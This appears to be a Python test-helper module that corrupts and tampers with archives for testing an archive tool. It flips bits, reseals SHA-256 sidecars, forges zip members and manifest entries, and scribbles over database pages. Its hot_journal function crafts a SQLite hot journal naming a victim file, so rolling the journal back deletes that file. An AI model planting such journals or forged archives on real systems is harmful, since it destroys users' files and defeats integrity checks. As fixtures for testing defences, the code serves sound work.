"""Damage to archives, as a disk, a network or a person does it."""

from __future__ import annotations

import hashlib
import json
import os
import zipfile
from pathlib import Path


def flip(path: str | os.PathLike, offset: int = -1000) -> None:
    """Flip one bit; a negative offset counts from the end."""
    with open(path, "r+b") as stream:
        stream.seek(offset if offset >= 0 else os.path.getsize(path) + offset)
        place = stream.tell()
        byte = stream.read(1)[0] ^ 4
        stream.seek(place)
        stream.write(bytes([byte]))


def seal(path: str | os.PathLike) -> None:
    """Write the sidecar anew, as somebody does who trusts what is there."""
    digest = hashlib.sha256(Path(path).read_bytes()).hexdigest()
    Path(f"{path}.sha256").write_text(f"{digest}  {os.path.basename(path)}\n")


def replace(path: str | os.PathLike, name: str, content: bytes, manifest: bool) -> None:
    """Give a member another content, with the sidecar written anew; with *manifest*, its entry there too."""
    with zipfile.ZipFile(path) as archive:
        members = [(info, archive.read(info)) for info in archive.infolist()]
    told = json.loads(members[0][1])
    for entry in told["entries"] if manifest else []:
        if entry["path"] == name:
            entry.update(size=len(content), sha256=hashlib.sha256(content).hexdigest())
        entry.pop("packed_sha256", None)
    with zipfile.ZipFile(path, "w") as archive:
        for info, data in members:
            if info.filename == "MANIFEST.json":
                data = json.dumps(told).encode("ascii")
            made = zipfile.ZipInfo(info.filename, info.date_time)
            made.external_attr, made.compress_type, made.create_system = info.external_attr, zipfile.ZIP_STORED, 3
            archive.writestr(made, content if info.filename == name else data)
    seal(path)


def scribble(database: bytes) -> bytes:
    """A database whose header is right and whose tables are not."""
    return database[:4096] + b"\xa5" * (len(database) - 4096)


def hot_journal(path: str | os.PathLike, victim: str | os.PathLike) -> None:
    """Make a SQLite database with a hot journal that names a file as its super-journal: who rolls it back removes that file."""
    import sqlite3  # an attacker's program is this function's source
    import struct

    name, magic, nonce = os.fsencode(victim), bytes.fromhex("d9d505f920a163d7"), 1234
    database = sqlite3.connect(path)
    database.execute("CREATE TABLE t (x)")
    database.execute("INSERT INTO t VALUES ('x')")
    database.commit()
    database.close()
    with open(path, "rb") as stream:
        content = stream.read()
    size = struct.unpack(">H", content[16:18])[0]
    page = content[:size]
    total = (nonce + sum(page[at] for at in range(size - 200, 0, -200))) & 0xFFFFFFFF
    journal = (magic + struct.pack(">5I", 1, nonce, len(content) // size, 512, size)).ljust(512, b"\0")
    journal += struct.pack(">I", 1) + page + struct.pack(">I", total)
    journal += struct.pack(">I", 0x40000000 // size + 1) + name + struct.pack(">2I", len(name), sum(name)) + magic
    with open(f"{path}-journal", "wb") as stream:
        stream.write(journal)
